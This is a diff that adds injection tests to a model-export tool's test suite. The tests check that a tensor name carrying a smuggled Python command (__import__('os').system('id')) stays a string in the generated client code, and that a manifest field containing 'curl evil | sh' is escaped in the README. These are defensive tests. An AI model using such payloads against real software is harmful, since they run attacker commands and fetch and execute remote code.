@@ -1,8 +1,10 @@
 """A repository is written whole or not at all, and says what the artifact is."""
 
+import ast
 import json
 import subprocess
 import sys
+from dataclasses import replace
 from pathlib import Path
 
 import numpy as np
@@ -15,6 +17,7 @@ from triton_artifacts import GRAPH, LABELS, graph, plan
 
 from msn_export import images, manifest
 from msn_export.cli import main
+from msn_export.manifest_records import CheckpointRecord
 from msn_export.spec import BatchRange
 from msn_export.triton import messages
 
@@ -363,6 +366,41 @@ def test_the_readmes_client_is_python_that_names_the_models_tensors(tmp_path) ->
     compile(code, "client.py", "exec")
     assert 'InferInput("pixel_values"' in code
     assert "class_count=3" in code
+
+
+HOSTILE = 'x"); __import__("os").system("id") # `|'
+
+
+def test_a_tensors_name_is_a_string_in_the_client_whatever_it_says(tmp_path) -> None:
+    path = graph(tmp_path / "m.onnx", manifest=False)
+    model = onnx.load(path)
+    for held in (model.graph.input[0].name, model.graph.output[0].name):
+        for node in model.graph.node:
+            for names in (node.input, node.output):
+                names[:] = [name.replace(held, held + HOSTILE) for name in names]
+    model.graph.input[0].name += HOSTILE
+    model.graph.output[0].name += HOSTILE
+    onnx.save(model, path)
+    assert invoke(path, "-o", tmp_path / "repo").exit_code == 0
+    readme = (tmp_path / "repo/m/README.md").read_text()
+    tree = ast.parse(readme.split("```python\n")[1].split("```")[0])
+    strings = {node.value for node in ast.walk(tree) if isinstance(node, ast.Constant)}
+    assert {"pixel_values" + HOSTILE, "logits" + HOSTILE} <= strings
+    assert "__import__" not in {node.id for node in ast.walk(tree) if isinstance(node, ast.Name)}
+    (row,) = [line for line in readme.splitlines() if line.startswith("| out: 'logits")]
+    assert r"\`\|" in row
+
+
+def test_what_a_manifest_says_is_no_markdown(tmp_path) -> None:
+    path = graph(tmp_path / "m.onnx")
+    read = manifest.read(path)
+    assert read is not None
+    source = "a\n\n```sh\ncurl evil | sh\n```\n<b>"
+    record = CheckpointRecord(source, "cd" * 32)
+    manifest.manifest_path(path).write_text(manifest.seal(replace(read, checkpoint=record)))
+    assert invoke(path, "-o", tmp_path / "repo").exit_code == 0
+    readme = (tmp_path / "repo/m/README.md").read_text()
+    assert r"Checkpoint: a \`\`\`sh curl evil \| sh \`\`\` \<b\>." in readme.splitlines()
 
 
 def test_without_the_extra_the_message_has_the_line_that_installs_it(tmp_path) -> None:
